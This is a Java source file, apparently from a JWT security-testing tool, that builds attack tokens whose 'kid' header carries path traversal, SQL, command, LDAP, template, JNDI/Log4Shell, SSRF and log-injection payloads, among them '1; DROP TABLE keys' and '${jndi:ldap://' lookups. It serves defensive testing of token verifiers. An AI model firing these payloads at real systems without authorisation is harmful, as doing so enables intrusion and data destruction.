package org.launchgate.example.attack.family;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.launchgate.example.attack.trial.Family.HEADER;
import static org.launchgate.example.attack.trial.Need.KEY;
import static org.launchgate.example.attack.trial.Need.KEY_ID;
import static org.launchgate.example.attack.trial.Need.KEY_ID_RULE;

import java.util.List;
import java.util.Locale;
import java.util.Map;
import org.launchgate.example.attack.token.Json;
import org.launchgate.example.attack.token.Json.Raw;
import org.launchgate.example.attack.token.Signer;
import org.launchgate.example.attack.trial.Attack;
import org.launchgate.example.attack.trial.Scene;
import org.launchgate.example.attack.trial.Setup;

/** The key id is more than a name, or a name that nobody gave. */
public final class KeyIdAttacks {
  private static final String SOURCE = "RFC 8725 3.10; V-16";

  private KeyIdAttacks() {}

  /** All of them. */
  public static List<Attack> all() {
    return List.of(
        path(),
        sql(),
        command(),
        directory(),
        template(),
        lookup(),
        address(),
        logLine(),
        tooLong(),
        noText(),
        unknown(),
        almost(),
        absent(),
        twice());
  }

  private static Attack attack(String id, String description, String source) {
    return Attack.of(HEADER, id, description, source);
  }

  /** Each as kid of a token by the secret that the injection would give, and by the own key. */
  private static Attack injected(Attack attack, List<String> kids, String secret) {
    byte[] key = secret.getBytes(UTF_8);
    return attack
        .tokens(kids, (s, kid) -> by(s, kid, Signer.secret("HS256", key)))
        .token("by an own key", s -> by(s, kids.get(0), s.own().signer(s.algorithm())));
  }

  private static Attack path() {
    return injected(
        attack("kid-path", "kid leads to a file with known content", SOURCE + "; CWE-22"),
        List.of(
            "/dev/null",
            "../../../../../../../../dev/null",
            "..\\..\\..\\windows\\win.ini",
            "....//....//dev/null",
            "%2e%2e%2f%2e%2e%2fdev%2fnull",
            "file:///dev/null",
            "/dev/null\0.pem",
            "classpath:/META-INF/MANIFEST.MF"),
        "");
  }

  private static Attack sql() {
    return injected(
        attack("kid-sql", "kid selects a key of the attacker's choice", SOURCE + "; CWE-89"),
        List.of(
            "x' UNION SELECT 'known' -- ",
            "x' UNION ALL SELECT 'known','known','known' FROM dual -- ",
            "' OR '1'='1",
            "\" OR \"\"=\"",
            "1; DROP TABLE keys",
            "x' || 'known",
            "x\\' UNION SELECT 'known' #"),
        "known");
  }

  private static Attack command() {
    return injected(
        attack("kid-command", "kid is a command", SOURCE + "; CWE-78"),
        List.of("| echo known", "$(echo known)", "`echo known`", "; echo known", "& echo known &"),
        "known");
  }

  private static Attack directory() {
    return injected(
        attack("kid-ldap", "kid searches a directory", SOURCE + "; CWE-90"),
        List.of("*", "*)(uid=*", "*)(|(objectClass=*", "x)(cn=*))\0"),
        "");
  }

  private static Attack template() {
    return injected(
        attack("kid-template", "kid is an expression", SOURCE + "; CWE-917"),
        List.of("{{7*7}}", "#{7*7}", "${7*7}", "<%= 7*7 %>", "%{7*7}", "T(java.lang.Math).PI"),
        "49");
  }

  private static Attack lookup() {
    return injected(
            attack("kid-lookup", "kid looks something up", "CVE-2021-44228; " + SOURCE),
            List.of(
                "${env:PATH}", "${sys:user.home}", "${file:/dev/null}", "${jndi:java:comp/env/a}"),
            "")
        .tokens(
            List.of("${jndi:ldap://", "${jndi:rmi://", "${${lower:j}ndi:ldap://"),
            (s, start) -> by(s, start + s.bait() + "/a}", s.own().signer(s.algorithm())))
        .variant("nobody came", s -> s.undisturbed());
  }

  private static Attack address() {
    return attack("kid-address", "kid is an address", SOURCE)
        .tokens(
            List.of("http://", "https://", "//", "\\\\"),
            (s, scheme) -> by(s, scheme + s.bait() + "/key", s.own().signer(s.algorithm())))
        .variant("nobody came", s -> s.undisturbed());
  }

  private static Attack logLine() {
    return attack("kid-log", "kid fakes a line of the log", "CWE-117; V-16")
        .needs(KEY)
        .tokens(
            List.of(
                "1\nINFO launch accepted ref=1",
                "1\r\nSet-Cookie: JSESSIONID=1",
                "1\u2028launch accepted",
                "\u001b[2J\u001b[31m",
                "1\u0085launch accepted",
                "\u202e1",
                "1\u0000"),
            (s, kid) -> signed(s, kid));
  }

  private static Attack tooLong() {
    return attack("kid-long", "kid is very long", SOURCE)
        .needs(KEY)
        .tokens(List.of(256, 1000, 4000), (s, length) -> signed(s, "k".repeat(length)));
  }

  private static Attack noText() {
    return attack("kid-type", "kid is no text", "RFC 7515 4.1.4; V-16")
        .needs(KEY)
        .tokens(
            List.of(1, true, Json.NULL, List.of(), Map.of(), "", "   "),
            (s, kid) -> s.signed(s.draft().header("kid", kid)))
        .<List<String>>tokensOf(
            setup -> setup.keyId().map(kid -> List.of(List.of(kid))).orElse(List.of()),
            (s, kid) -> s.signed(s.draft().header("kid", kid)));
  }

  private static Attack unknown() {
    return attack("kid-unknown", "kid names no key; a good signature does not help", "V-16; V-18")
        .needs(KEY, KEY_ID)
        .tokens(
            List.of("1", "unknown", "0", "null", "undefined", "*", "default"),
            KeyIdAttacks::signed);
  }

  private static Attack almost() {
    return attack("kid-almost", "kid is almost the key's", "V-16; V-18")
        .needs(KEY, KEY_ID)
        .<String>tokensOf(KeyIdAttacks::almostThat, KeyIdAttacks::signed);
  }

  private static List<String> almostThat(Setup setup) {
    String kid = setup.keyId().orElse("");
    return List.of(
        kid + " ",
        " " + kid,
        kid + "\0",
        kid + "1",
        kid.substring(0, kid.length() - 1),
        kid + "," + kid,
        kid.toUpperCase(Locale.ROOT).equals(kid) ? kid + "A" : kid.toUpperCase(Locale.ROOT),
        kid.substring(0, kid.length() - 1) + (char) (kid.charAt(kid.length() - 1) + 0xFEE0),
        "\ufeff" + kid,
        kid + "\u200b");
  }

  private static Attack absent() {
    return attack("kid-absent", "kid is left out where it tells the key", "V-18")
        .needs(KEY, KEY_ID, KEY_ID_RULE)
        .token("left out", s -> s.signed(s.draft().withoutHeader("kid")))
        .token(
            "among the claims",
            s ->
                s.signed(s.draft().withoutHeader("kid").claim("kid", s.setup().keyId().orElse(""))))
        .token(
            "in another case",
            s ->
                s.signed(
                    s.draft().withoutHeader("kid").header("KID", s.setup().keyId().orElse(""))));
  }

  private static Attack twice() {
    return attack("kid-twice", "the header has two key ids", "RFC 7515 4; V-5")
        .needs(KEY, KEY_ID)
        .token(
            "another first",
            s -> s.signed(s.draft().headerText(text -> "{\"kid\":\"own\"," + text.substring(1))))
        .token(
            "another last",
            s ->
                s.signed(
                    s.draft().headerText(text -> text.replaceFirst("}$", ",\"kid\":\"own\"}"))))
        .token(
            "escaped",
            s ->
                s.signed(
                    s.draft().headerText(text -> "{\"\\u006bid\":\"own\"," + text.substring(1))))
        .token("in a list", s -> s.signed(s.draft().header("kid", new Raw("[\"own\"]"))));
  }

  private static String signed(Scene scene, String kid) {
    return scene.signed(scene.draft().header("kid", kid));
  }

  private static String by(Scene scene, String kid, Signer signer) {
    return scene.draft().header("kid", kid).header("alg", signer.algorithm()).signedBy(signer);
  }
}
